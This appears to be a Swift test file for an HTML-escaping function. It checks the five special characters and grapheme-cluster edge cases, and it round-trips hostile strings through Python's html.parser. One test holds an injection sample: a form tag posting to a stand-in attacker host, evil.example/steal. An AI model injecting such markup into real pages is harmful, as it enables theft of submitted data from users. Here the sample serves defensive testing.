import PropertyTestSupport
import Support
import Testing

/// `HTMLEscaping.escape` byte by byte, and through Python's `html.parser` as an independent reader.
struct HTMLEscapingTests {
    @Test func escape_ReplacesTheFiveSpecialCharacters() {
        #expect(HTMLEscaping.escape(#"<a href="x" title='y'>&</a>"#)
            == "&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;")
        #expect(HTMLEscaping.escape("plain text, é 日本") == "plain text, é 日本")
        #expect(HTMLEscaping.escape("") == "")
    }

    /// U+0600 and `<` are one `Character`; the `<` inside it must still be escaped.
    @Test func escape_ReachesALessThanSign_InsideAGraphemeCluster() {
        let description = "\u{0600}<form action=https://evil.example/steal method=post \u{0600}>"
        #expect(Character("\u{0600}<") != "<", "the premise: one cluster, not a less-than sign")
        let escaped = HTMLEscaping.escape(description)
        #expect(!escaped.utf8.contains(UInt8(ascii: "<")) && !escaped.utf8.contains(UInt8(ascii: ">")))
        #expect(escaped == "\u{0600}&lt;form action=https://evil.example/steal method=post \u{0600}&gt;")
        #expect(HTMLEscaping.escape("a\u{0301}\"\u{08E2}'\u{0605}&") == "a\u{0301}&quot;\u{08E2}&#39;\u{0605}&amp;")
    }

    /// Each hostile string, escaped into the text and two attributes of a `<td>`, parses back as
    /// exactly that element holding exactly that text: no other tag, attribute, comment or declaration.
    @Test func escape_RoundTripsThroughPythonHTMLParser_WithoutNewMarkup() throws {
        let samples = HostileText.samples(count: 400, seed: 20_01)
        let failures = try Self.oracle.failures(samples.map { [$0, HTMLEscaping.escape($0)] })
        #expect(failures.count == 0, "of \(samples.count), e.g.:\n\(failures.prefix(5).joined(separator: "\n"))")
    }

    static let oracle = PythonOracle(script: PythonOracle.prelude + """
        import html.parser

        class Events(html.parser.HTMLParser):
            def __init__(self):
                super().__init__(convert_charrefs=True)
                self.events = []
            def handle_starttag(self, tag, attrs): self.events.append(("start", tag, attrs))
            def handle_startendtag(self, tag, attrs): self.events.append(("startend", tag, attrs))
            def handle_endtag(self, tag): self.events.append(("end", tag))
            def handle_data(self, data):
                if self.events and self.events[-1][0] == "data":
                    self.events[-1] = ("data", self.events[-1][1] + data)
                else:
                    self.events.append(("data", data))
            def handle_comment(self, data): self.events.append(("comment", data))
            def handle_decl(self, decl): self.events.append(("decl", decl))
            def handle_pi(self, data): self.events.append(("pi", data))
            def unknown_decl(self, data): self.events.append(("unknown_decl", data))

        for raw, escaped in cases():
            parser = Events()
            parser.feed('<td title="%s" data-note=\\'%s\\'>%s</td>' % (escaped, escaped, escaped))
            parser.close()
            expected = [("start", "td", [("title", raw), ("data-note", raw)])] + ([("data", raw)] if raw else []) + [("end", "td")]
            print("ok" if parser.events == expected else "fail " + ascii(parser.events)[:400])
        """)
}
